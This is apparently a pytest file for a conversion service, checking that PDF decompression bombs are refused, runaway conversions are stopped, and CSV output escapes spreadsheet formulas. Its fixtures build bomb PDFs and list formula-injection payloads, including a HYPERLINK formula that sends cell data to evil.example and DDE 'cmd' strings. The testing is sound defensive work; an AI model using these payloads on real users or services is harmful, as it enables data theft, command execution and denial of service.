"""Hostile conversions (issue 10, items 3 and 7): PDF decompression bombs behind any filter
chain or shared by many pages are refused before extraction; a conversion past its timeout
or its CPU limit is stopped with its worker gone; one past its memory limit fails naming the
limit; CSV output does not carry formulas to a spreadsheet.
"""

from __future__ import annotations

import asyncio
import base64
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from raikoo_common.messages import OperationFailed
from raikoo_common.runner import OperationError
from raikoo_op_runner.kinds.convert import KIND, ConvertConfig, ConvertOutput, execute
from raikoo_op_runner.settings import current_settings
from raikoo_op_runner.workers import close_shared_pool
from tests.unit.kinds._pdf import (
    FONT_RESOURCES,
    HELVETICA,
    Pdf,
    document,
    encrypted,
    png_up_rows,
    shared_content_document,
    stream,
    text_content,
)
from tests.unit.kinds._processes import gone, worker_cpu_ticks
from tests.unit.kinds._run import context
from tests.unit.runner._once import ready_to_run, run_once

MiB = 2**20
FIVE_MB_OF_TEXT = text_content(["Total due: 1,250.00 (EUR)"]) + b"\n" + b" " * (5 * MiB)
"""Page content that shows one line and then 5 MB of spaces (the parser reads them all)."""


async def convert(**fields: Any) -> ConvertOutput:
    config = ConvertConfig.model_validate(fields)
    return ConvertOutput.model_validate((await execute(config, context("convert"))).value())


async def refused(**fields: Any) -> OperationError:
    with pytest.raises(OperationError) as caught:
        await convert(**fields)
    assert not caught.value.retryable
    return caught.value


def b64(blob: bytes) -> str:
    return base64.b64encode(blob).decode()


def pdf_text(pdf: bytes, **fields: Any) -> dict[str, Any]:
    return {"from": "pdf", "to": "text", "data_base64": b64(pdf), **fields}


# --- filter chains -----------------------------------------------------------------------


async def test_an_ascii85_flate_chain_past_the_limit_is_refused() -> None:
    content = stream(FIVE_MB_OF_TEXT, ("ASCII85Decode", "FlateDecode"))
    pdf = document([(content, FONT_RESOURCES)])
    assert len(pdf) < 64 * 1024
    error = await refused(**pdf_text(pdf, max_expanded_bytes=MiB))
    assert error.kind == "invalid_input"
    assert f"expand to more than max_expanded_bytes ({MiB})" in str(error)
    assert "decompression bomb" in str(error)
    fine = await convert(**pdf_text(pdf))  # within the default 256 MiB: it converts
    assert fine.text is not None
    assert "Total due: 1,250.00 (EUR)" in fine.text


@pytest.mark.parametrize(
    ("filters", "params"),
    [
        (("LZWDecode",), b""),
        (("RunLengthDecode",), b""),
        (("ASCIIHexDecode", "FlateDecode"), b""),
        (("ASCII85Decode", "RunLengthDecode", "FlateDecode"), b""),
        (("ASCIIHexDecode", "LZWDecode"), b""),
    ],
)
async def test_every_filter_chain_is_measured(filters: tuple[str, ...], params: bytes) -> None:
    unused = stream(bytes(2 * MiB), filters, params=params)  # not even on a page
    pdf = document([(stream(text_content(["hello"])), FONT_RESOURCES)], extra=[unused])
    error = await refused(**pdf_text(pdf, max_expanded_bytes=MiB))
    assert "decompression bomb" in str(error)


async def test_flate_with_a_png_predictor_is_measured() -> None:
    rows = png_up_rows(bytes(5 * MiB), columns=100)
    params = b"<< /Predictor 12 /Columns 100 >>"
    bomb = stream(rows, ("FlateDecode",), params=params)
    pdf = document([(stream(text_content(["hello"])), FONT_RESOURCES)], extra=[bomb])
    assert "decompression bomb" in str(await refused(**pdf_text(pdf, max_expanded_bytes=MiB)))
    assert (await convert(**pdf_text(pdf))).text == "hello\n"


async def test_a_filter_that_cannot_be_measured_is_refused_by_name() -> None:
    odd = b"<< /Length 4 /Filter /BrotliDecode >>\nstream\nxxxx\nendstream"
    pdf = document([(stream(text_content(["hello"])), FONT_RESOURCES)], extra=[odd])
    error = await refused(**pdf_text(pdf))
    assert error.kind == "invalid_input"
    assert "uses /BrotliDecode, whose output cannot be measured" in str(error)


async def test_a_bomb_behind_empty_password_encryption_is_measured_decrypted() -> None:
    """The file's bytes show only ciphertext; the guard measures what pdfminer decrypts."""
    pdf = Pdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(HELVETICA)
    content = pdf.add(stream(text_content(["Sealed but readable"])))
    page = pdf.add(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (tree, font, content)
    )
    pdf.add(stream(bytes(5 * MiB)))  # used by nothing
    pdf.put(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    pdf.put(tree, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    sealed = encrypted(pdf, catalog)
    assert b"Sealed" not in sealed
    assert (await convert(**pdf_text(sealed))).text == "Sealed but readable\n"
    error = await refused(**pdf_text(sealed, max_expanded_bytes=MiB))
    assert f"expand to more than max_expanded_bytes ({MiB}); refusing" in str(error)


# --- streams counted per use -------------------------------------------------------------


def many_pages_one_stream() -> bytes:
    """The review's payload: one 5 MB content stream shown by 200 pages, in a small file."""
    pdf = shared_content_document(stream(FIVE_MB_OF_TEXT), pages=200)
    assert len(pdf) < 40 * 1024
    return pdf


async def test_a_stream_shown_by_200_pages_counts_200_times() -> None:
    error = await refused(**pdf_text(many_pages_one_stream()))  # the default 256 MiB limit
    assert error.kind == "invalid_input"
    assert "a stream counts each time a page or a form uses it" in str(error)


def form_document(form: bytes, page_content: bytes) -> bytes:
    pdf = Pdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(HELVETICA)
    form_id = pdf.add(form)
    resources = b"<< /Font << /F1 %d 0 R >> /XObject << /Logo %d 0 R >> >>" % (font, form_id)
    content = pdf.add(stream(page_content))
    page = pdf.add(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources %s /Contents %d 0 R >>"
        % (tree, resources, content)
    )
    pdf.put(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    pdf.put(tree, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    return pdf.write(catalog)


FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 100 100]"


async def test_a_form_drawn_500_times_counts_500_times() -> None:
    form = stream(b"0 0 m 10 10 l S\n" + b" " * MiB, entries=FORM)
    page = text_content(["cover"]) + b"\n" + b"q /Logo Do Q\n" * 500
    error = await refused(**pdf_text(form_document(form, page)))
    assert "a stream counts each time a page or a form uses it" in str(error)
    once = form_document(form, text_content(["cover"]) + b"\nq /Logo Do Q\n")
    assert (await convert(**pdf_text(once))).text == "cover\n"


async def test_a_form_that_draws_itself_is_refused() -> None:
    pdf = Pdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    form = pdf.reserve()
    pdf.put(
        form,
        stream(b"/Self Do", entries=FORM + b" /Resources << /XObject << /Self %d 0 R >> >>" % form),
    )
    content = pdf.add(stream(text_content(["loop"]) + b"\n/Self Do"))
    resources = b"<< /Font << /F1 %d 0 R >> /XObject << /Self %d 0 R >> >>" % (
        pdf.add(HELVETICA),
        form,
    )
    page = pdf.add(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources %s /Contents %d 0 R >>"
        % (tree, resources, content)
    )
    pdf.put(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    pdf.put(tree, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    error = await refused(**pdf_text(pdf.write(catalog)))
    assert f"object {form}, a form, draws itself" in str(error)


async def test_an_ordinary_document_with_shared_resources_converts() -> None:
    """Many pages sharing a font, a logo form and an ASCII85 + Flate stream, as real
    documents do, stay far within the limit when counted per use."""
    pdf = Pdf()
    catalog, tree = pdf.reserve(), pdf.reserve()
    font = pdf.add(HELVETICA)
    logo = pdf.add(stream(b"0 0 m 50 50 l S", entries=FORM))
    resources = b"<< /Font << /F1 %d 0 R >> /XObject << /Logo %d 0 R >> >>" % (font, logo)
    kids = []
    for number in range(1, 31):
        lines = [f"Invoice 2024-{number:03d}", f"Page {number} of 30"]
        body = text_content(lines) + b"\nq /Logo Do Q"
        content = pdf.add(stream(body, ("ASCII85Decode", "FlateDecode")))
        kids.append(
            pdf.add(
                b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources %s "
                b"/Contents %d 0 R >>" % (tree, resources, content)
            )
        )
    pdf.put(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    listed = b" ".join(b"%d 0 R" % kid for kid in kids)
    pdf.put(tree, b"<< /Type /Pages /Kids [" + listed + b"] /Count 30 >>")
    out = await convert(**pdf_text(pdf.write(catalog), max_expanded_bytes=MiB))
    assert out.text is not None
    assert "Invoice 2024-001\nPage 1 of 30" in out.text
    assert "Invoice 2024-030\nPage 30 of 30" in out.text


# --- timeouts and limits: the worker is stopped ------------------------------------------


@asynccontextmanager
async def settings_of_a_fresh_pool(
    monkeypatch: pytest.MonkeyPatch, **environment: str
) -> AsyncIterator[None]:
    """Conversions with these settings, in a pool made from them (the usual one after)."""
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    await close_shared_pool()
    current_settings.cache_clear()
    try:
        yield
    finally:
        monkeypatch.undo()
        await close_shared_pool()
        current_settings.cache_clear()


def slow_pdf_config() -> dict[str, Any]:
    """The 200-page document, let through the guard: extracting it takes minutes of CPU."""
    return pdf_text(many_pages_one_stream(), max_expanded_bytes=2048 * MiB)


async def until_a_worker_works() -> list[int]:
    before = worker_cpu_ticks()
    for _ in range(1000):
        now = worker_cpu_ticks()
        busy = [pid for pid, ticks in now.items() if ticks > before.get(pid, 0)]
        if busy:
            return busy
        await asyncio.sleep(0.02)
    raise AssertionError("no worker started converting")


async def test_an_operation_timeout_stops_the_conversion_and_its_worker() -> None:
    await close_shared_pool()
    ready = ready_to_run("convert", slow_pdf_config(), timeout=3)
    result = asyncio.ensure_future(run_once({"convert": KIND}, ready, uuid.uuid4(), wait=120))
    busy = await until_a_worker_works()
    failed = await result
    assert isinstance(failed, OperationFailed)
    assert failed.error.kind == "timeout"
    assert "did not finish within its timeout of 3s" in failed.error.message
    for pid in busy:
        assert await gone(pid)  # no CPU burnt after the timeout
    await close_shared_pool()


async def test_the_cpu_limit_of_a_conversion_stops_its_worker(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with settings_of_a_fresh_pool(monkeypatch, RAIKOO_CONVERT_SECONDS="1"):
        job = asyncio.ensure_future(convert(**slow_pdf_config()))
        busy = await until_a_worker_works()
        with pytest.raises(OperationError) as caught:
            await job
        assert caught.value.kind == "timeout"
        assert "more than the 1 s of CPU time a conversion may use (RAIKOO_CONVERT_SECONDS)" in str(
            caught.value
        )
        for pid in busy:
            assert await gone(pid)


async def test_a_conversion_past_its_memory_limit_fails_naming_the_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with settings_of_a_fresh_pool(monkeypatch, RAIKOO_CONVERT_MEMORY_MIB="256"):
        header = ",".join(f"column{n}" for n in range(10))
        row = ",".join(f"v{n}" for n in range(10))
        error = await refused(
            **{"from": "csv", "to": "json", "data": header + "\n" + (row + "\n") * 400_000}
        )
        assert error.kind == "invalid_input"
        assert "needed more than the 256 MiB of memory a conversion may use" in str(error)
        assert "RAIKOO_CONVERT_MEMORY_MIB" in str(error)
        small = await convert(**{"from": "csv", "to": "json", "data": "a\n1\n"})
        assert small.data == [{"a": "1"}]  # the next conversion has a worker again


# --- CSV formula injection ---------------------------------------------------------------

ROWS = [
    {"name": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "n": -3, "text": "-3"},
    {"name": "+cmd|' /C calc'!A0", "n": 2.5, "text": "-2+3"},
    {"name": "@SUM(1+1)*cmd|' /C calc'!A0", "n": 0, "text": "+1.5e3"},
    {"name": "\t=1+1", "n": -0.5, "text": "-"},
    {"name": "\r=1+1", "n": 1, "text": "plain, with = inside"},
]


async def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
    out = await convert(**{"from": "data", "to": "csv", "data": ROWS, "newline": "crlf"})
    assert out.text is not None
    lines = out.text.split("\r\n")
    assert lines[0] == "name,n,text"
    assert lines[1] == '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-3,-3'
    assert lines[2] == "'+cmd|' /C calc'!A0,2.5,'-2+3"
    assert lines[3] == "'@SUM(1+1)*cmd|' /C calc'!A0,0,+1.5e3"
    assert lines[4] == "'\t=1+1,-0.5,'-"
    assert lines[5] == '"\'\r=1+1",1,"plain, with = inside"'


async def test_tsv_and_quoted_styles_escape_too_and_headers_are_cells() -> None:
    tsv = await convert(**{"from": "data", "to": "tsv", "data": [{"=x": "@y", "n": -7}]})
    assert tsv.text == "'=x\tn\n'@y\t-7\n"
    quoted = await convert(
        **{"from": "data", "to": "csv", "data": [{"a": "=1", "n": -7}], "quoting": "nonnumeric"}
    )
    assert quoted.text == '"a","n"\n"\'=1",-7\n'


async def test_csv_formulas_keep_writes_cells_as_they_are() -> None:
    out = await convert(**{"from": "data", "to": "csv", "data": ROWS[:2], "csv_formulas": "keep"})
    assert out.text == (
        'name,n,text\n"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-3,-3\n'
        "+cmd|' /C calc'!A0,2.5,-2+3\n"
    )


async def test_markdown_and_html_tables_are_not_spreadsheets() -> None:
    out = await convert(**{"from": "data", "to": "markdown", "data": [{"f": "=1+1"}]})
    assert out.text == "| f    |\n| ---- |\n| =1+1 |\n"
